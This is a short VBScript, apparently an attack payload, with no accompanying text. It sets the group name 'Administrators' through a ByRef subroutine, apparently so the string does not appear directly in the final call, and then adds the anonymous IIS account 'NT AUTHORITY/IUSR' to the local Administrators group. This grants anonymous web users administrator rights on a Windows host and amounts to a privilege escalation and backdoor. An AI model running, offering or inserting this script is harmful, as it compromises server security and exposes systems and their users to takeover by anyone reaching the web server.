Sub Target(ByRef name)
  name = "Administrators"
End Sub
Dim g
Target g
GetObject("WinNT://./" & g & ",group").Add "WinNT://NT AUTHORITY/IUSR"
